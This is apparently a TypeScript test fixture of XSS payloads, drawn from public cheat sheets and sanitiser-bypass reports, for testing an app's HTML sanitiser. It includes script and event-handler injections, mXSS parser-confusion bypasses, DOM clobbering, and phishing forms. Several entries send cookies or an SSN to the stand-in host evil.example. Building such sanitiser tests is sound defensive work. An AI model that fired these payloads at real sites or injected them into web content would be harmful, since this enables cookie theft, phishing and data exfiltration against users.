/**
 * Attacks an issuer (or whoever writes its texts) could put in the HTML the app shows: each is a
 * realistic payload as found in public XSS cheat sheets and sanitiser bypass reports, with the
 * phishing and restyling attacks issue 11 reproduced. The UI tests sanitise every one with the
 * issuer HTML profile; the end-to-end test feeds them through the running app's issuer text paths.
 *
 * A payload that runs calls alert() (a dialog the browser test sees) or sends a request to
 * evil.example (a request to another origin); none should ever do either.
 */
export interface XssPayload {
  readonly name: string;
  readonly html: string;
}

export const XSS_PAYLOADS: readonly XssPayload[] = [
  // Script elements.
  { name: 'script element', html: '<p>Hello</p><script>alert(document.domain)</script>' },
  { name: 'script with src', html: '<script src="https://evil.example/x.js"></script><p>Disclosure</p>' },
  { name: 'nested script', html: '<scr<script>ipt>alert(1)</scr</script>ipt>' },
  { name: 'split script tags', html: '<<script>script>alert(1)<</script>/script>' },
  { name: 'script in upper case', html: '<SCRIPT>alert(String.fromCharCode(88,83,83))</SCRIPT>' },
  { name: 'script with a type', html: '<script type="module">import("https://evil.example/m.js")</script>' },
  {
    name: 'script inside a paragraph',
    html: '<p>We check<script>fetch("https://evil.example/?c="+document.cookie)</script> you.</p>',
  },

  // Event handlers.
  { name: 'img onerror', html: '<img src=x onerror=alert(1)>' },
  { name: 'img onerror quoted with entity', html: '<img src="x" onerror="&#97;lert(1)">' },
  { name: 'body onload', html: '<body onload=alert(1)><p>Thanks</p></body>' },
  { name: 'input onfocus autofocus', html: '<input onfocus=alert(1) autofocus>' },
  { name: 'details ontoggle', html: '<details open ontoggle=alert(1)><summary>More</summary>text</details>' },
  {
    name: 'onanimationstart with a keyframe',
    html: '<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart="alert(1)">Consent</p>',
  },
  { name: 'svg onload', html: '<svg onload=alert(1)></svg>' },
  { name: 'svg animate onbegin', html: '<svg><animate onbegin=alert(1) attributeName=x dur=1s></animate></svg>' },
  {
    name: 'svg set onbegin',
    html: '<svg><set attributeName="onmouseover" to="alert(1)"/><set onbegin="alert(1)" attributeName="x"/></svg>',
  },
  { name: 'a onmouseover', html: '<a href="https://issuer.example" onmouseover="alert(1)">Read the policy</a>' },
  { name: 'p onclick', html: '<p onclick="alert(1)">Click here to continue</p>' },
  { name: 'video source onerror', html: '<video><source onerror="alert(1)"></video>' },
  { name: 'audio src onerror', html: '<audio src=x onerror=alert(1)></audio>' },
  { name: 'marquee onstart', html: '<marquee onstart=alert(1)>Important</marquee>' },
  { name: 'handler split by a slash', html: '<img/src=x/onerror=alert(1)>' },
  { name: 'handler after a newline', html: '<img src=x\nonerror\n=\nalert(1)>' },
  { name: 'iframe onload', html: '<iframe onload=alert(1)></iframe>' },

  // Links with script or data schemes.
  { name: 'javascript link', html: '<a href="javascript:alert(1)">Read the disclosure</a>' },
  { name: 'javascript link in mixed case', html: '<a href="JaVaScRiPt:alert(1)">Read the disclosure</a>' },
  { name: 'javascript link split by a tab', html: '<a href="java\tscript:alert(1)">Read the disclosure</a>' },
  { name: 'javascript link split by a newline', html: '<a href="java\nscript:alert(1)">Read the disclosure</a>' },
  { name: 'javascript link entity encoded', html: '<a href="&#106;avascript:alert(1)">Read the disclosure</a>' },
  { name: 'javascript link with an encoded tab', html: '<a href="jav&#x09;ascript:alert(1)">Read the disclosure</a>' },
  {
    name: 'javascript link fully entity encoded',
    html: '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">Read</a>',
  },
  { name: 'javascript link with leading spaces', html: '<a href=" &#14;  javascript:alert(1)">Read</a>' },
  {
    name: 'data link with html',
    html: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Open</a>',
  },
  { name: 'vbscript link', html: '<a href="vbscript:msgbox(1)">Read</a>' },
  { name: 'javascript image source', html: '<img src="javascript:alert(1)">' },
  {
    name: 'user-info link to another host',
    html: '<a href="https://attest.example@evil.example/login">Sign in to Attest</a>',
  },
  { name: 'protocol-relative link', html: '<a href="//evil.example/login">Sign in</a>' },
  {
    name: 'link with a form action',
    html: '<a href="https://issuer.example" formaction="javascript:alert(1)">Read</a>',
  },

  // Frames, objects and embeds.
  { name: 'iframe src', html: '<iframe src="https://evil.example/phish"></iframe>' },
  { name: 'iframe javascript src', html: '<iframe src="javascript:alert(1)"></iframe>' },
  { name: 'iframe srcdoc', html: '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>' },
  { name: 'object data', html: '<object data="data:text/html,<script>alert(1)</script>"></object>' },
  { name: 'embed src', html: '<embed src="https://evil.example/x.swf">' },
  { name: 'frameset', html: '<frameset><frame src="javascript:alert(1)"></frameset>' },

  // Forms: a phishing form that looks like the app's own.
  {
    name: 'phishing form posting an SSN',
    html:
      '<p>To finish, confirm your SSN.</p><form action="https://evil.example/collect" method="post">' +
      '<label>Social Security number <input name="ssn" autocomplete="off"></label>' +
      '<button type="submit" class="button button--primary">Confirm</button></form>',
  },
  { name: 'lone input', html: '<input type="password" name="password" placeholder="Password">' },
  { name: 'button formaction', html: '<button formaction="https://evil.example/collect">Authorize</button>' },
  { name: 'select', html: '<select name="state"><option>California</option></select>' },
  { name: 'textarea', html: '<textarea name="notes">Tell us your SSN</textarea>' },
  { name: 'isindex', html: '<isindex action="javascript:alert(1)" type=image>' },
  { name: 'fieldset and legend', html: '<fieldset><legend>Card</legend><input name="card"></fieldset>' },
  {
    name: 'input image formaction',
    html: '<form><input type="image" src="x" formaction="javascript:alert(1)"></form>',
  },

  // Styles: restyling the app (issue 11 reproduced a white heading and a hidden footer).
  { name: 'style element', html: '<style>h1{color:white}footer{display:none}</style><p>Disclosure</p>' },
  {
    name: 'style adding words to a label',
    html: '<style>label[for$="-authorized"]::after{content:" and I waive all my rights"}</style>',
  },
  { name: 'style import', html: '<style>@import "https://evil.example/steal.css";</style>' },
  {
    name: 'style attribute overlay',
    html: '<div style="position:fixed;inset:0;background:#fff;z-index:9999">Session expired. <a href="https://evil.example">Sign in</a></div>',
  },
  {
    name: 'style attribute remote background',
    html: '<p style="background:url(https://evil.example/track.gif)">Hi</p>',
  },
  { name: 'app class borrowed', html: '<div class="snackbar" role="alert">Your session expired, call 555-0100</div>' },
  { name: 'visually hidden class', html: '<p class="visually-hidden">I also consent to a credit check</p>' },

  // mXSS: parser and namespace confusion.
  { name: 'noscript title', html: '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>' },
  { name: 'title end', html: '<title><a title="</title><img src=x onerror=alert(1)>"></title>' },
  { name: 'textarea end', html: '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>' },
  { name: 'svg p style', html: '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">' },
  {
    name: 'math mtext table mglyph style',
    html: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  },
  {
    name: 'math mtext mglyph svg style',
    html: '<math><mtext><table><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
  },
  {
    name: 'form math mtext nested form',
    html: '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  },
  {
    name: 'math annotation-xml svg',
    html: '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
  },
  {
    name: 'svg foreignObject',
    html: '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
  },
  {
    name: 'svg a xlink href',
    html: '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">Read</text></a></svg>',
  },
  { name: 'svg use data url', html: '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"></use></svg>' },
  { name: 'comment breakout', html: '<!--<img src="--><img src=x onerror=alert(1)//">' },
  { name: 'xmp end', html: '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>' },
  { name: 'noembed end', html: '<noembed><p title="</noembed><img src=x onerror=alert(1)>"></noembed>' },
  { name: 'iframe text end', html: '<iframe><p title="</iframe><img src=x onerror=alert(1)>"></iframe>' },

  // Page-level elements.
  { name: 'meta refresh', html: '<meta http-equiv="refresh" content="0;url=https://evil.example/phish">' },
  { name: 'meta refresh javascript', html: '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">' },
  { name: 'base href', html: '<base href="https://evil.example/"><a href="help">Help</a>' },
  { name: 'link stylesheet', html: '<link rel="stylesheet" href="https://evil.example/steal.css">' },
  { name: 'link import', html: '<link rel="import" href="https://evil.example/x.html">' },
  { name: 'link prefetch', html: '<link rel="prefetch" href="https://evil.example/ping">' },

  // DOM clobbering.
  {
    name: 'anchor id clobbering',
    html: '<a id="defaultView" href="https://issuer.example">x</a><a id="defaultView" name="href" href="cid:alert(1)">y</a>',
  },
  { name: 'img name clobbering', html: '<img name="getElementById"><img name="cookie">' },
  { name: 'form name clobbering', html: '<form name="body"><input name="attributes"></form>' },
  { name: 'id stealing a label target', html: '<p id="root">Stolen</p><p id="main-content">Skip here</p>' },

  // Templates, images and media.
  { name: 'template content', html: '<template><img src=x onerror=alert(1)></template>' },
  {
    name: 'template shadow root',
    html: '<div><template shadowrootmode="open"><img src=x onerror=alert(1)></template></div>',
  },
  {
    name: 'srcset to another site',
    html: '<img src="https://verify.attest.example/ok.png" srcset="https://evil.example/track.png 1x">',
  },
  { name: 'remote tracking image', html: '<img src="https://evil.example/track.gif?who=applicant" alt="">' },
  { name: 'data image', html: '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" alt="logo">' },
  { name: 'picture source', html: '<picture><source srcset="https://evil.example/a.png"><img alt="Logo"></picture>' },
  { name: 'image behind a user-info address', html: '<img src="https://verify.attest.example@evil.example/x.png">' },
  { name: 'plain http image from the allowed host', html: '<img src="http://verify.attest.example/logo.png">' },

  // Custom elements and attributes.
  { name: 'custom element with is', html: '<p is="x-evil" data-x="1" aria-hidden="true">Hidden from readers</p>' },
  { name: 'autofocus on a link', html: '<a href="https://evil.example" autofocus tabindex="1" accesskey="a">Go</a>' },
  { name: 'link target top', html: '<a href="https://evil.example/phish" target="_top" rel="opener">Continue</a>' },
];
